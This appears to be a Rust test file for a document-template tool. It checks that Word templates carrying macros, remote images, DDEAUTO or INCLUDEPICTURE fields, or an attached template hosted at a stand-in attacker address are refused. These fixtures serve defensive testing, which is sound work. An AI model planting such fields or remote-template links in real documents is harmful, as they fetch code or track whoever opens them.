//! A board's template is vetted before use (issue #19, defect 5): macros, binary objects,
//! relationships that make Word contact another computer when a document is opened, and
//! fields that fetch content are refused with their place in `fill`, `template check` and
//! `pack`; a hyperlink and a locally attached template are fine; a `.dotx` is converted into a
//! document Word opens (its content type changed).

mod common;

use common::{Docx, p};
use scrkit::template::compile_bytes;
use std::io::{Cursor, Read, Write};
use std::process::Command;
use zip::write::SimpleFileOptions;

fn with_parts(
    package: &[u8],
    extra: &[(&str, &[u8])],
    edit: impl Fn(&str, String) -> String,
) -> Vec<u8> {
    let mut src = zip::ZipArchive::new(Cursor::new(package)).unwrap();
    let mut out = Cursor::new(Vec::new());
    let mut z = zip::ZipWriter::new(&mut out);
    for i in 0..src.len() {
        let mut f = src.by_index(i).unwrap();
        let name = f.name().unwrap().to_string();
        let mut data = String::new();
        f.read_to_string(&mut data).unwrap();
        z.start_file(name.as_str(), SimpleFileOptions::default())
            .unwrap();
        z.write_all(edit(&name, data).as_bytes()).unwrap();
    }
    for (name, data) in extra {
        z.start_file(*name, SimpleFileOptions::default()).unwrap();
        z.write_all(data).unwrap();
    }
    z.finish().unwrap();
    out.into_inner()
}

fn problems(bytes: Vec<u8>) -> Vec<String> {
    compile_bytes(bytes, "letter.docx")
        .diagnostics
        .iter()
        .map(|d| d.to_string())
        .collect()
}

const R: &str = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";

#[test]
fn payloads_are_refused_with_their_place() {
    let field = "<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText xml:space=\"preserve\"> INCLUDE</w:instrText></w:r><w:r><w:instrText>PICTURE \"https://track.example/p.png\" \\d </w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"separate\"/></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>";
    let mut d = Docx::new(
        p("Dear {{name}},")
            + field
            + "<w:p><w:fldSimple w:instr=\" DDEAUTO excel x\"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>",
    );
    d.rels_extra = format!(
        r#"<Relationship Id="rIdImg" Type="{R}/image" Target="https://track.example/logo.png" TargetMode="External"/><Relationship Id="rIdLink" Type="{R}/hyperlink" Target="https://www.gov.uk/" TargetMode="External"/>"#
    );
    let settings_rels = format!(
        r#"<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="{R}/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>"#
    );
    let bytes = with_parts(
        &d.build(),
        &[
            ("word/vbaProject.bin", &[0xD0, 0xCF, 0x11, 0xE0]),
            ("word/settings.xml", b"<w:settings xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"/>"),
            ("word/_rels/settings.xml.rels", settings_rels.as_bytes()),
        ],
        |_, s| s,
    );
    let got = problems(bytes);
    let want = [
        "the part word/vbaProject.bin: the template holds macros (a VBA project)",
        "the links of word/document.xml (rIdImg): the template refers to a picture linked from elsewhere (https://track.example/logo.png)",
        "the links of word/settings.xml (rId1): the template refers to an attached template on another computer (https://evil.example/t.dotm)",
        "field code in word/document.xml, paragraph 2: the template has the field INCLUDEPICTURE",
        "field code in word/document.xml, paragraph 3: the template has the field DDEAUTO",
    ];
    for w in want {
        assert!(got.iter().any(|g| g.contains(w)), "{w}\nnot in {got:#?}");
    }
    assert_eq!(got.len(), want.len(), "the hyperlink is fine: {got:#?}");
}

#[test]
fn a_hyperlink_and_a_local_attached_template_are_fine() {
    let mut d = Docx::new(p("Dear {{name}},"));
    d.rels_extra = format!(
        r#"<Relationship Id="rIdLink" Type="{R}/hyperlink" Target="https://www.gov.uk/" TargetMode="External"/>"#
    );
    let settings_rels = format!(
        r#"<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="{R}/attachedTemplate" Target="file:///C:/Users/me/AppData/Roaming/Microsoft/Templates/Normal.dotm" TargetMode="External"/></Relationships>"#
    );
    let bytes = with_parts(
        &d.build(),
        &[("word/_rels/settings.xml.rels", settings_rels.as_bytes())],
        |_, s| s,
    );
    let c = compile_bytes(bytes, "letter.docx");
    assert!(c.template.is_some(), "{:#?}", c.diagnostics);
}

#[test]
fn a_dotx_template_makes_documents_word_opens() {
    let d = Docx::new(p("Dear {{name}},"));
    let dotx = with_parts(&d.build(), &[], |name, s| {
        if name == "[Content_Types].xml" {
            s.replace(
                "wordprocessingml.document.main+xml",
                "wordprocessingml.template.main+xml",
            )
        } else {
            s
        }
    });
    let dir = tempfile::tempdir().unwrap();
    let template = dir.path().join("letter.dotx");
    std::fs::write(&template, dotx).unwrap();
    let data = dir.path().join("data.json");
    std::fs::write(&data, r#"{"name":"DI Oyelaran"}"#).unwrap();
    let out = dir.path().join("letter.docx");
    let run = Command::new(env!("CARGO_BIN_EXE_scr"))
        .args([
            "fill",
            template.to_str().unwrap(),
            data.to_str().unwrap(),
            "-o",
            out.to_str().unwrap(),
        ])
        .output()
        .unwrap();
    assert!(
        run.status.success(),
        "{}",
        String::from_utf8_lossy(&run.stderr)
    );
    let bytes = std::fs::read(&out).unwrap();
    let mut z = zip::ZipArchive::new(Cursor::new(&bytes[..])).unwrap();
    let mut types = String::new();
    z.by_name("[Content_Types].xml")
        .unwrap()
        .read_to_string(&mut types)
        .unwrap();
    assert!(
        types.contains("wordprocessingml.document.main+xml"),
        "{types}"
    );
    assert!(!types.contains("template.main+xml"), "{types}");
    assert_eq!(common::body(&bytes), ["Dear DI Oyelaran,"]);
}

#[test]
fn fill_refuses_a_template_with_macros_and_writes_nothing() {
    let dir = tempfile::tempdir().unwrap();
    let template = dir.path().join("letter.docx");
    std::fs::write(
        &template,
        with_parts(
            &Docx::new(p("Dear {{name}},")).build(),
            &[("word/vbaProject.bin", b"x")],
            |_, s| s,
        ),
    )
    .unwrap();
    let data = dir.path().join("data.json");
    std::fs::write(&data, r#"{"name":"x"}"#).unwrap();
    let out = dir.path().join("out.docx");
    for args in [
        vec![
            "fill",
            template.to_str().unwrap(),
            data.to_str().unwrap(),
            "-o",
            out.to_str().unwrap(),
        ],
        vec![
            "template",
            "check",
            template.to_str().unwrap(),
            data.to_str().unwrap(),
        ],
    ] {
        let run = Command::new(env!("CARGO_BIN_EXE_scr"))
            .args(&args)
            .output()
            .unwrap();
        let text = String::from_utf8_lossy(&run.stdout).into_owned()
            + &String::from_utf8_lossy(&run.stderr);
        assert_eq!(run.status.code(), Some(1), "{args:?}: {text}");
        assert!(
            text.contains("word/vbaProject.bin: the template holds macros"),
            "{text}"
        );
    }
    assert!(!out.exists());
}
